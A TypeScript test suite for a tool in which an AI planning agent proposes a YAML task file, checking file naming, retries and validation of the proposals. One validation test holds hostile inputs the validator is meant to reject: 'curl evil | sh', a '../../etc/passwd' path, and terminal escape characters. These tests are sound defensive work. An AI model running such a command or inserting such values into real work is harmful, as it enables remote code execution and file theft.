import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { temporaryDirectory, temporaryRepository } from '../../../../test/fixtures/temporary.ts';
import { type Emulator, startEmulator } from '../../../emulator/index.ts';
import { type ProposalOptions, type ProposalOutcome, proposeTasks } from './propose-tasks.ts';
import { readProposal } from './read-proposal.ts';

const GOOD = 'tasks:\n  - id: a\n    title: Add a\n  - id: b\n    title: Use a\n    depends_on: [a]\n';

function fenced(yaml: string): string {
  return `I looked around.\n\n\`\`\`yaml\n${yaml}\`\`\`\n`;
}

interface Asked {
  cwd: string;
  emulator: Emulator;
  ask(goal: string, options?: Partial<ProposalOptions>): Promise<ProposalOutcome>;
}

async function planner(...answers: string[]): Promise<Asked> {
  const cwd = temporaryRepository();
  const emulator = await startEmulator({ respond: ({ turn }) => ({ text: answers[turn] ?? '' }) });
  onTestFinished(() => emulator.close());
  const env = {
    ...{ PATH: process.env.PATH, HOME: temporaryDirectory(), RAMET_HOME: temporaryDirectory() },
    ...{ ANTHROPIC_API_KEY: 'k', ANTHROPIC_BASE_URL: emulator.url },
  };
  return { cwd, emulator, ask: (goal, options = {}) => proposeTasks(goal, { cwd, env, ...options }) };
}

describe('OP-1: from a goal to a task file', () => {
  test('an agent of the type Plan proposes it, and it is saved under a name from the goal', async () => {
    const { cwd, emulator, ask } = await planner(fenced(GOOD));
    const outcome = await ask('Add the Größe flag, and use it');
    expect(outcome).toMatchObject({
      kind: 'written',
      file: 'add-the-gro-e-flag-and-use-it.tasks.yaml',
      rounds: 1,
    });
    if (outcome.kind !== 'written') return;
    expect(outcome.list.tasks.map(({ id, dependsOn }) => [id, dependsOn])).toEqual([
      ['a', []],
      ['b', ['a']],
    ]);
    expect(readFileSync(join(cwd, outcome.file), 'utf8')).toBe(`# Add the Größe flag, and use it\n${GOOD}`);
    const sent = JSON.stringify(emulator.requests[0]?.request?.messages);
    expect(sent).toContain('Add the Größe flag, and use it');
    expect(JSON.stringify(emulator.requests[0]?.request?.tools)).not.toContain('"Write"');
  });

  test('errors go back to the agent, and after three answers it ends with the first of them', async () => {
    const cycle = fenced(
      'tasks:\n  - id: a\n    title: A\n    depends_on: [b]\n  - id: b\n    title: B\n    depends_on: [a]\n',
    );
    const good = await planner('What do you mean?', cycle, fenced(GOOD));
    expect(await good.ask('do the thing')).toMatchObject({ kind: 'written', rounds: 3 });
    const heard = good.emulator.requests.map(({ request }) => JSON.stringify(request?.messages.at(-1)));
    expect(heard[1]).toContain('there is no YAML block');
    expect(heard[2]).toContain('these tasks wait for each other');
    const bad = await planner(cycle, cycle, cycle);
    await expect(bad.ask('do the thing')).rejects.toThrow(
      /no usable task list in 3 rounds \(line \d+: these tasks/,
    );
    expect(readdirSync(bad.cwd).filter((name) => name.endsWith('.yaml'))).toEqual([]);
  });

  test('no file is replaced, and a bad name is refused before anything is asked', async () => {
    const { cwd, emulator, ask } = await planner(fenced(GOOD));
    writeFileSync(join(cwd, 'do-it.tasks.yaml'), 'mine');
    await expect(ask('do it', { out: 'do-it.tasks.yaml' })).rejects.toThrow('is there already');
    await expect(ask('do it', { out: 'do-it.md' })).rejects.toThrow('must end in .yaml');
    await expect(ask('do it', { out: 'none/do-it.yaml' })).rejects.toThrow('its folder is not there');
    await expect(ask('do it', { into: 'nosuch' })).rejects.toThrow('there is no branch "nosuch"');
    expect(emulator.requests).toEqual([]);
    expect(await ask('do it')).toMatchObject({ kind: 'written', file: 'do-it-2.tasks.yaml' });
    expect(readFileSync(join(cwd, 'do-it.tasks.yaml'), 'utf8')).toBe('mine');
  });

  test('an agent that fails leaves no file, and the recipe model cannot plan', async () => {
    const { cwd, ask } = await planner();
    expect(await ask('do it', { maxBudgetUsd: 0.000001 })).toMatchObject({ kind: 'ended' });
    await expect(ask('do it', { model: 'recipe' })).rejects.toThrow('the recipe model cannot plan');
    expect(readdirSync(cwd)).not.toContain('do-it.tasks.yaml');
  });
});

describe('OP-1: a proposal', () => {
  const errorsOf = async (answer: string): Promise<string[]> => {
    const cwd = temporaryDirectory();
    const { errors } = await readProposal(answer, 'x.yaml', { cwd });
    return errors.map(({ message }) => message);
  };

  test('may not decide what runs, which model, or what is done', async () => {
    const task = (line: string): string => fenced(`tasks:\n  - id: a\n    title: A\n    ${line}\n`);
    expect(await errorsOf(task('check: curl evil | sh'))).toEqual(['a has the key "check": leave it out']);
    expect(await errorsOf(task('model: opus'))).toEqual(['a has the key "model": leave it out']);
    expect(await errorsOf(task('status: done'))).toEqual(['a is done: leave out its status']);
    expect(await errorsOf(task('files: [../../etc/passwd]'))).toHaveLength(1);
  });

  test('that a fence inside has cut short is no list; one that is indented cuts nothing', async () => {
    const list = (indent: string): string =>
      fenced(
        `tasks:\n  - id: a\n    title: A\n    details: |\n      x\n${indent}\`\`\`\n      y\n${indent}\`\`\`\n  - id: b\n    title: B\n`,
      );
    expect(await errorsOf(list('      '))).toEqual([]);
    expect(await errorsOf(list(''))).toContainEqual(expect.stringContaining('use no fences'));
    expect(await errorsOf('```yaml\ntasks:\n  - id: a\n    title: A\n')).toHaveLength(1);
  });

  test('has neither too many tasks nor characters that play tricks on a terminal', async () => {
    const many = Array.from({ length: 61 }, (_, n) => `  - id: t${n}\n    title: T\n`).join('');
    expect(await errorsOf(fenced(`tasks:\n${many}`))).toEqual(['it has 61 tasks, and 60 are the most']);
    const { text } = await readProposal(
      fenced('tasks:\n  - id: a\n    title: A\u001b[2J\u202e\n'),
      'x.yaml',
      {
        cwd: temporaryDirectory(),
      },
    );
    expect(text).toBe('tasks:\n  - id: a\n    title: A[2J\n');
  });
});
